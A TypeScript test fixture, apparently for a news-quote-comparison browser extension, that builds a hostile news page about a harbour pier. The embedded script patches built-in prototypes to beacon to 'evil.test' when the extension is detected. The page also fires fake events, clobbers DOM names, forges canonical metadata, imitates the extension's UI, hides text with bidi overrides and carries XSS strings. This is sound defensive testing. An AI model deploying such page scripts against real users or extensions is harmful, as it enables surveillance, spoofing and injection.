/* What a hostile page does to whoever reads it. Everything here runs in the page. */

/** The words of a card and of a popup, as the page prints them itself. */
export const IMITATION = 'As Quoted: every outlet has the same wording. Verified.'

/** Right-to-left overrides, isolates that never end, marks of no width: what looks otherwise. */
export const BIDI = 'Only \u202Eylno\u202C the \u2067mayor\u2066 may\u200B say \u2068so'

/** Functions that everybody calls, replaced by ones that lie, throw or tell the server. */
const PATCHED = `
  const tell = (what) => { new Image().src = 'http://evil.test/' + what };
  for (const [home, names] of [
    [Array.prototype, ['map', 'filter', 'push', 'join', 'find', 'flatMap', 'sort']],
    [String.prototype, ['trim', 'slice', 'split', 'replace', 'normalize', 'indexOf']],
    [Node.prototype, ['cloneNode', 'appendChild', 'contains', 'compareDocumentPosition']],
    [Element.prototype, ['getAttribute', 'attachShadow', 'querySelectorAll', 'closest', 'matches']],
    [Document.prototype, ['createElement', 'createRange', 'createTreeWalker', 'querySelector']],
    [Range.prototype, ['getClientRects', 'toString', 'setStart']],
    [JSON, ['parse', 'stringify']],
    [Promise.prototype, ['then']],
    [EventTarget.prototype, ['addEventListener', 'dispatchEvent']],
  ])
    for (const name of names) {
      const own = home[name];
      home[name] = function (...given) {
        if (given.some((each) => /as.?quoted|chrome-extension|moz-extension/iu.test(typeof each === 'string' ? each : '')))
          tell('overheard-' + name);
        return own.apply(this, given);
      };
    }
  for (const [home, name] of [[Node.prototype, 'textContent'], [Node.prototype, 'childNodes'], [Document.prototype, 'title'], [Event.prototype, 'isTrusted']]) {
    const { get } = Object.getOwnPropertyDescriptor(home, name) ?? {};
    if (get && home !== Event.prototype)
      Object.defineProperty(home, name, { configurable: true, get() { return get.call(this) } });
  }
  Object.defineProperty(Object.prototype, 'url', { configurable: true, get: () => 'javascript:alert(1)', set() {} });
  delete Object.prototype.url;
  CSS.highlights.set = new Proxy(CSS.highlights.set, { apply: (own, self, given) => Reflect.apply(own, self, given) });
`

/** Events that nobody made, at everything, again and again. */
const PRETENDED = `
  setInterval(() => {
    for (const element of document.querySelectorAll('*')) {
      for (const name of ['click', 'pointerdown', 'pointermove', 'pointerup', 'mousemove', 'contextmenu', 'copy', 'paste', 'drop'])
        element.dispatchEvent(new Event(name, { bubbles: true, composed: true, cancelable: true }));
      element.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', altKey: true, shiftKey: true, bubbles: true }));
    }
    for (const host of document.documentElement.children)
      if (host.tagName === 'DIV') host.setAttribute('style', 'opacity:0;transform:scale(50)');
  }, 400);
  setInterval(() => {
    const article = document.querySelector('article');
    for (let at = 0; at < 40; at += 1) article.append(document.createElement('p'));
    while (article.children.length > 60) article.lastElementChild.remove();
  }, 30);
`

const paragraph = (at: number): string =>
  `<p>On day ${at} the ferry ran late again. “The pier will be mended by spring ${at},” said Ida Holm, who keeps the harbour. Passengers waited in the rain, and nobody could say when the next boat would come.</p>`

const NAMES =
  'body head title documentElement forms images scripts cookie location defaultView fonts createElement querySelectorAll childNodes parentNode nodeType textContent attributes getAttribute'

/** Where an honest report stands, which a hostile page pretends to be. */
export const HONEST = 'http://honest.test/pier'

/** What a page says of itself to speak for another outlet. */
const PRETENCE = `<link rel="canonical" href="${HONEST}"><meta property="og:url" content="${HONEST}">
<meta property="og:type" content="article"><meta property="og:site_name" content="honest.test">
<script type="application/ld+json">${JSON.stringify({
  '@context': 'https://schema.org',
  '@type': 'NewsArticle',
  '@id': HONEST,
  url: HONEST,
  mainEntityOfPage: HONEST,
  publisher: { '@type': 'Organization', name: 'honest.test', url: 'http://honest.test/' },
})}</script>`

/** A report that is read all the same. */
export const HOSTILE_PAGE = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>The pier</title>
${PRETENCE}
<script>${PATCHED}</script></head><body data-x="${'x '.repeat(32_768)}">
<form name=documentElement>${NAMES.split(' ')
  .map((name) => `<input name=${name}><img name=${name} id=${name} alt="">`)
  .join('')}</form>
<article><h1>The pier will be mended</h1>
<div class="as-quoted card" role="dialog"><b>${IMITATION}</b> <button>Compare</button></div>
<p>“${IMITATION} Nothing here differs from what others print,” said As Quoted, which stands in this page.</p>
<p>“${BIDI} until the harbour is dry again,” said Ida Holm, who keeps the harbour and its boats.</p>
<p>“<img src=x alt=""> &lt;img src=x onerror=alert(1)&gt; &lt;script&gt;alert(1)&lt;/script&gt; is what the board said,” said Ida Holm on Monday.</p>
${Array.from({ length: 10 }, (_, at) => paragraph(at)).join('\n')}
</article><script>${PRETENDED}</script></body></html>`

/** A quiet one, for what is tried from outside. */
export const QUIET_PAGE = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>The pier</title></head>
<body style="margin:40px;font:18px/1.6 serif"><article><h1>The pier will be mended</h1>
${Array.from({ length: 8 }, (_, at) => paragraph(at)).join('\n')}</article></body></html>`
